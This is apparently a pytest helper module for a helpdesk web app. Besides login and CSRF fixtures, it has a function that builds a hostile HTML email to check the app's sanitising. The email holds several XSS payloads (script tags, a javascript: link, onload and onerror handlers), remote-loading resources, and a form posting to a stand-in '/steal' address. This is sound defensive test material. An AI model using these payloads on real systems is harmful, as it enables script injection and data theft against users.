"""Shared by the desk's tests: a site whose daemon serves the desk, staff with passwords,
and an HTTP client that logs in the way a browser does (real HTTP over a socket)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from conftest import Running, write_site
from ticketgate.config import load_settings
from ticketgate.web.passwords import PasswordFile

PASSWORD = "correct horse battery"
HELPDESK = "it-staff@example.org"  # staff of helpdesk (rules/queues.yaml)
CARDS = "kortkontoret@example.org"  # staff of lukortet only
ADMIN = "boss@example.org"
WEB = ("web:\n  port: 0\n  admins: [boss@example.org]\n"
       "  login: {per_address: 3, per_client: 50, window: 60}\n")


def desk_site(root: Path, extra: str = "") -> Path:
    site = write_site(root, WEB + extra)
    passwords = PasswordFile(root / "var/staff.passwords")
    for address in (HELPDESK, CARDS, ADMIN):
        passwords.set(address, PASSWORD)
    return site


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Running]:
    running = Running(load_settings(desk_site(tmp_path)))
    yield running
    running.stop()


def base_url(running: Running) -> str:
    return f"http://127.0.0.1:{running.port('web')}"


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found, html[:500]
    return found.group(1)


def client(running: Running, **headers: str) -> httpx.Client:
    return httpx.Client(base_url=base_url(running), headers=headers, timeout=30)


def login(http: httpx.Client, address: str, password: str = PASSWORD) -> httpx.Response:
    token = csrf_of(http.get("/login").text)
    return http.post("/login", data={"address": address, "password": password,
                                      "csrf": token, "next": "/tickets/open"})


def logged_in(running: Running, address: str) -> httpx.Client:
    http = client(running)
    answer = login(http, address)
    assert answer.status_code == 303, answer.text
    return http


def hostile_mail(canary: str = "http://203.0.113.9") -> bytes:
    """HTML-only mail that tries everything: scripts, a javascript: link, an SVG with onload,
    CSS and images that load remote content, and an HTML attachment named .txt. `canary`
    is a remote address nothing may ever fetch (TEST-NET-3: nothing answers there)."""
    from email.message import EmailMessage
    from email.policy import SMTP

    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@example.org>"
    msg["To"] = "helpdesk@example.org"
    msg["Subject"] = "Fakturan <script>alert('subject')</script>"
    msg["Message-ID"] = "<hostile.1@client.test.invalid>"
    msg.set_content(
        "<html><head><style>@import url('" + canary + "/import.css');"
        " body { background: url('" + canary + "/bg.png') }</style>"
        "<script>alert('head')</script></head>"
        "<body onload=\"alert('body')\" background=\"" + canary + "/body.png\">"
        "<p>Hej, se fakturan.</p>"
        "<script>document.title='pwned'; alert('script')</script>"
        "<a href=\"javascript:alert('link')\" id=\"jslink\">Klicka här</a>"
        "<img src=\"" + canary + "/pixel.gif\" srcset=\"" + canary + "/2x.gif 2x\""
        " onerror=\"alert('img')\" alt=\"pixel\">"
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('svg')\"><circle r=\"5\"/>"
        "</svg>"
        "<div style=\"background-image: url(" + canary + "/div.png)\">stilad</div>"
        "<iframe src=\"" + canary + "/frame\"></iframe>"
        "<form action=\"" + canary + "/steal\"><input name=\"p\"></form>"
        "<p>Mvh Mallory</p></body></html>", subtype="html")
    msg.add_attachment(b"<html><script>alert('attachment')</script></html>",
                       maintype="text", subtype="html", filename="faktura.txt")
    return msg.as_bytes(policy=SMTP)
